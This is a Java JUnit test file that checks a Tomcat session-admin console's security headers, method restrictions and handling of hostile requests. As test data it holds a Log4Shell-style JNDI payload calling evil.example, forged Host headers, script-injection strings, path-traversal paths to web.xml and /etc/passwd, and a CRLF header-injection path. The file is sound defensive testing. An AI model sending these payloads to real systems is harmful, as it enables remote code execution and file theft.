package io.sessionadmin.console;

import static io.sessionadmin.console.ConsoleTomcat.status;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What browsers are told, and what a hostile request gets. */
final class SecurityHeadersTest {

    private static ConsoleTomcat tomcat;

    @BeforeAll
    static void start(@TempDir Path directory) throws Exception {
        tomcat = new ConsoleTomcat(directory);
        tomcat.start();
    }

    @AfterAll
    static void stop() throws Exception {
        tomcat.close();
    }

    @ParameterizedTest
    @CsvSource({
        "manager-gui, /, 200",
        "manager-gui, /nothing, 404",
        "manager-gui, /failure, 404",
        "manager-gui, /sessions?idleOver=soon, 400",
        "nobody, /, 403",
        "'', /, 401",
        "manager-script, /api/v1/contexts, 200",
        "manager-script, /api/v1/nothing, 404",
        "'', /api/v1/contexts, 401",
        "manager-script, /text/list, 200",
        "nobody, /text/list, 403",
        "manager-status, /metrics, 200",
        "'', /metrics, 401",
    })
    void everyAnswerForbidsScriptsFramesAndCopies(String user, String path, int status) {
        String answer = tomcat.get(user, "/session-admin" + path);

        assertThat(status(answer)).isEqualTo(status);
        assertThat(answer)
                .contains("\r\nContent-Security-Policy: default-src 'none'; style-src 'self'; img-src 'self';"
                        + " form-action 'self'; frame-ancestors 'none'; base-uri 'none'\r\n")
                .contains("\r\nX-Content-Type-Options: nosniff\r\n", "\r\nX-Frame-Options: DENY\r\n")
                .contains("\r\nReferrer-Policy: no-referrer\r\n", "\r\nCross-Origin-Opener-Policy: same-origin\r\n")
                .contains("\r\nCross-Origin-Resource-Policy: same-origin\r\n")
                .contains("\r\nCache-Control: no-store\r\n")
                .containsPattern("Content-Type: (application/(problem\\+)?json\r|.*;charset=(utf|UTF)-8\r)")
                .doesNotContain("\r\nServer:", "\r\nSet-Cookie:", "Apache Tomcat", "at org.apache", "at io.session");
    }

    @Test
    void aStaticFileIsKeptUnderTheAddressOfItsContentsAndFoldersAreNotListed() {
        assertThat(tomcat.get("manager-gui", "/session-admin/static/console.css?v=1"))
                .contains("\r\nCache-Control: private, max-age=31536000, immutable\r\n");
        assertThat(status(tomcat.get("manager-gui", "/session-admin/static/"))).isEqualTo(404);
        for (String hidden : new String[] {"/WEB-INF/web.xml", "/META-INF/context.xml", "/WEB-INF/api/openapi.json"}) {
            assertThat(status(tomcat.get("manager-gui", "/session-admin" + hidden)))
                    .as(hidden)
                    .isEqualTo(404);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "HACK"})
    void otherMethodsThanThoseInUseAreRefused(String method) {
        for (String path : new String[] {"/", "/sessions?host=localhost&context=/shop", "/api/v1/contexts"}) {
            String user = path.startsWith("/api") ? "manager-script" : "manager-gui";
            assertThat(status(tomcat.ask(method, user, "/session-admin" + path, "")))
                    .as(method + " " + path)
                    .isEqualTo(405);
        }
        assertThat(status(tomcat.ask(method, "manager-status", "/session-admin/metrics", "")))
                .isEqualTo(405);
    }

    @Test
    void aHeadIsAnsweredAsAGetWithoutABody() {
        String head = tomcat.ask("HEAD", "manager-gui", "/session-admin/", "");

        assertThat(head).startsWith("HTTP/1.1 200").endsWith("\r\n\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "X-Forwarded-Host: evil.example",
                "X-Forwarded-Proto: javascript",
                "Forwarded: host=evil.example",
                "X-HTTP-Method-Override: POST",
                "X-Original-URL: /session-admin/text/list",
                "X-Forwarded-For: <script>alert(1)</script>",
                "Accept-Language: <script>alert(1)</script>",
                "User-Agent: ${jndi:ldap://evil.example/a}"
            })
    void noHeaderOfAClientIsBelievedOrShown(String header) {
        String request = "GET /session-admin/ HTTP/1.1\r\n" + (header.startsWith("Host") ? "" : "Host: localhost\r\n")
                + "Connection: close\r\nAuthorization: Basic bWFuYWdlci1ndWk6c2VjcmV0\r\n" + header + "\r\n\r\n";

        assertThat(tomcat.send(request)).startsWith("HTTP/1.1 200").doesNotContain("evil.example", "<script>", "jndi");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/session-admin/..%2f..%2fWEB-INF/web.xml",
                "/session-admin/%2e%2e/%2e%2e/etc/passwd",
                "/session-admin/static/..;/WEB-INF/web.xml",
                "/session-admin/static/%2e%2e/WEB-INF/web.xml",
                "/session-admin//WEB-INF/web.xml",
                "/session-admin/%00",
                "/session-admin/sessions/%0d%0aSet-Cookie:a=b"
            })
    void aCrookedPathLeadsNowhere(String path) {
        String answer = tomcat.get("manager-gui", path);

        assertThat(status(answer)).isIn(400, 404);
        assertThat(answer).doesNotContain("<web-app", "root:", "\r\nSet-Cookie");
    }

    @Test
    void aRequestOutOfProportionIsRefused() {
        assertThat(status(tomcat.get("manager-gui", "/session-admin/?" + "a".repeat(20_000))))
                .isEqualTo(400);
        String form = "id=" + "A".repeat(3_000_000);
        assertThat(status(tomcat.post("manager-gui", "/session-admin/sessions/lookup", form)))
                .isIn(400, 403, 413);
        String many = "handle=0&".repeat(20_000);
        assertThat(status(tomcat.post("manager-gui", "/session-admin/sessions/invalidate", many)))
                .isIn(400, 403, 413);
    }
}
